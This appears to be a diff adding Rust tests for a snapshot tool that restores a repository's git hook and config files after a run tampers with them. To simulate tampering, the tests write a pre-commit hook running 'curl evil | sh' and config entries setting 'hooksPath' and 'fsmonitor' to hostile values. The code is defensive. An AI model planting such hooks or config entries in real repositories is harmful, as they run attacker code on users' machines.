@@ -139,3 +139,113 @@ fn the_copy_budget_bounds_what_is_kept() {
     let big_v = v.iter().find(|v| v.path == big).unwrap();
     assert!(!big_v.undone && big_v.detail.contains("budget"), "{big_v}");
 }
+
+/// A take as the next run's would be: a while after the files were last written.
+fn later() -> std::time::SystemTime {
+    std::time::SystemTime::now() + std::time::Duration::from_secs(5)
+}
+
+fn kept_names(kept: &Path) -> Vec<String> {
+    let mut v: Vec<String> = std::fs::read_dir(kept)
+        .unwrap()
+        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+        .collect();
+    v.sort();
+    v
+}
+
+#[test]
+fn kept_copies_spare_the_next_run_every_copy_of_an_unchanged_file() {
+    let w = world();
+    let kept = w.store.parent().unwrap().join("kept");
+    let first = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
+    assert_eq!(first.copied(), 2, "pre-commit and config copied");
+    assert_eq!(kept_names(&kept).len(), 2);
+    assert!(first.check_and_restore().is_empty());
+    assert!(kept.is_dir(), "kept for the next run");
+    let inode = |p: &Path| std::os::unix::fs::MetadataExt::ino(&std::fs::metadata(p).unwrap());
+    let before: Vec<u64> = kept_names(&kept)
+        .iter()
+        .map(|n| inode(&kept.join(n)))
+        .collect();
+    // The next run: nothing copied, the same copies.
+    let second = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
+    assert_eq!(second.copied(), 0);
+    let after: Vec<u64> = kept_names(&kept)
+        .iter()
+        .map(|n| inode(&kept.join(n)))
+        .collect();
+    assert_eq!(before, after);
+    // A change during that run is undone from the kept copy.
+    std::fs::write(
+        w.ws.join(".git/hooks/pre-commit"),
+        "#!/bin/sh\ncurl evil | sh\n",
+    )
+    .unwrap();
+    let v = second.check_and_restore();
+    assert_eq!(v.len(), 1, "{v:?}");
+    assert!(v[0].undone, "{}", v[0]);
+    assert_eq!(
+        read(w.ws.join(".git/hooks/pre-commit")),
+        "#!/bin/sh\nexit 0\n"
+    );
+}
+
+#[test]
+fn a_file_changed_between_runs_is_copied_again_and_its_old_copy_goes() {
+    let w = world();
+    let kept = w.store.parent().unwrap().join("kept");
+    Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
+    let old = kept_names(&kept);
+    // The user edits the config between two runs (same size: only the times tell).
+    std::fs::write(w.ws.join(".git/config"), "[cOre]\n").unwrap();
+    let snap = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
+    assert_eq!(snap.copied(), 1, "only the config");
+    let now = kept_names(&kept);
+    assert_eq!(now.len(), 2, "{now:?}");
+    assert_eq!(
+        now.iter().filter(|n| old.contains(n)).count(),
+        1,
+        "the old config's copy went"
+    );
+    // The run rewrites it: restored to the user's edit, not to the older content.
+    std::fs::write(w.ws.join(".git/config"), "[core]\n\thooksPath = /tmp\n").unwrap();
+    assert_eq!(snap.check_and_restore().len(), 1);
+    assert_eq!(read(w.ws.join(".git/config")), "[cOre]\n");
+}
+
+#[test]
+fn a_file_written_just_now_is_copied_for_this_run_only() {
+    let w = world();
+    let kept = w.store.parent().unwrap().join("kept");
+    // A take right after the files were written (a tenth of a second after the last change
+    // time): too recent to trust a kept copy with (a write in the same clock tick would not
+    // move them).
+    let ctime = |p: &str| {
+        let m = std::fs::metadata(w.ws.join(p)).unwrap();
+        std::time::UNIX_EPOCH
+            + std::time::Duration::new(
+                std::os::unix::fs::MetadataExt::ctime(&m)
+                    .try_into()
+                    .unwrap(),
+                std::os::unix::fs::MetadataExt::ctime_nsec(&m)
+                    .try_into()
+                    .unwrap(),
+            )
+    };
+    let just_now = ctime(".git/config").max(ctime(".git/hooks/pre-commit"))
+        + std::time::Duration::from_millis(100);
+    let snap = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), just_now).unwrap();
+    assert_eq!(snap.copied(), 2);
+    assert!(kept_names(&kept).is_empty(), "nothing kept");
+    std::fs::write(w.ws.join(".git/config"), "[core]\n\tfsmonitor = evil\n").unwrap();
+    assert_eq!(snap.check_and_restore().len(), 1);
+    assert_eq!(read(w.ws.join(".git/config")), "[core]\n");
+    // And a kept copy whose file is no more a regular file of its size is not reused.
+    Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
+    for n in kept_names(&kept) {
+        std::fs::write(kept.join(&n), "short").unwrap();
+    }
+    let again = Snapshot::take_at(&protected(&w), &w.store, Some(&kept), later()).unwrap();
+    assert_eq!(again.copied(), 2, "the short copies are not trusted");
+}
